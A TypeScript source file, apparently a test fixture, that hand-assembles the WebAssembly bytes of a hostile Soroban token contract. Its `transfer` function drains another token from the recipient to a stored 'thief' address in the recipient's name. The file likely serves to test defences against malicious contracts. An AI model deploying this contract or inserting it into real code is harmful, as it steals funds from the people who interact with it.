/**
 * A token that takes money from its receiver. `transfer(from, to, amount)` moves that amount of another token from `to` to a
 * thief, in the name of `to`. `init(token, thief)` sets both. The wasm is written by hand, because it is small. Soroban-env's
 * module and function names are single letters, and values are 64 bits with their type in the lowest eight.
 */
export function greedyToken(): Uint8Array<ArrayBuffer> {
  const [three, two, none] = [0, 1, 2];
  // put_contract_data, get_contract_data, vec_new, vec_push_back, call
  const [put, get, newVec, push, call] = [0, 1, 2, 3, 4];
  const imports = [["l", "_", three], ["l", "1", two], ["v", "_", none], ["v", "6", two], ["d", "_", three]] as const;
  const exported = [["init", two], ["transfer", three], ["decimals", none]] as const;
  const [token, thief] = [u32(1), u32(2)];
  const kept = (key: bigint) => [...constant(key), ...PERSISTENT, 0x10, get];
  const bodies = [
    [
      ...constant(token),
      0x20,
      0,
      ...PERSISTENT,
      0x10,
      put,
      0x1a,
      ...constant(thief),
      0x20,
      1,
      ...PERSISTENT,
      0x10,
      put,
    ],
    [
      ...kept(token),
      ...constant(symbol("transfer")),
      ...[0x10, newVec, 0x20, 1, 0x10, push],
      ...kept(thief),
      ...[0x10, push, 0x20, 2, 0x10, push, 0x10, call],
    ],
    constant(u32(7)),
  ];
  const type = (parameters: number) => [0x60, ...list(Array(parameters).fill([0x7e])), 1, 0x7e];
  return new Uint8Array([
    ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
    ...section(0, [...text("contractenvmetav0"), 0, 0, 0, 0, 0, 0, 0, 22, 0, 0, 0, 0]),
    ...section(1, list([type(3), type(2), type(0)])),
    ...section(2, list(imports.map(([module, name, of]) => [...text(module), ...text(name), 0, of]))),
    ...section(3, list(exported.map(([, of]) => [of]))),
    ...section(7, list(exported.map(([name], at) => [...text(name), 0, imports.length + at]))),
    ...section(10, list(bodies.map((body) => sized([0, ...body, 0x0b])))),
  ]);
}

/** A number of the host's, not a value. */
const PERSISTENT = constant(1n);

function u32(value: number): bigint {
  return BigInt(value) << 32n | 4n;
}

function symbol(name: string): bigint {
  const letters = "_0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  return [...name].reduce((bits, letter) => bits << 6n | BigInt(letters.indexOf(letter) + 1), 0n) << 8n | 14n;
}

/** `i64.const`, signed LEB128. */
function constant(value: bigint): number[] {
  const bytes = [0x42];
  for (let left = BigInt.asIntN(64, value);; left >>= 7n) {
    const byte = Number(left & 0x7fn);
    const isLast = left >> 6n === 0n || left >> 6n === -1n;
    bytes.push(isLast ? byte : byte | 0x80);
    if (isLast) return bytes;
  }
}

function length(value: number): number[] {
  return value < 0x80 ? [value] : [value & 0x7f | 0x80, ...length(value >> 7)];
}

function sized(bytes: number[]): number[] {
  return [...length(bytes.length), ...bytes];
}

function text(name: string): number[] {
  return sized([...new TextEncoder().encode(name)]);
}

function list(items: number[][]): number[] {
  return [...length(items.length), ...items.flat()];
}

function section(id: number, bytes: number[]): number[] {
  return [id, ...sized(bytes)];
}
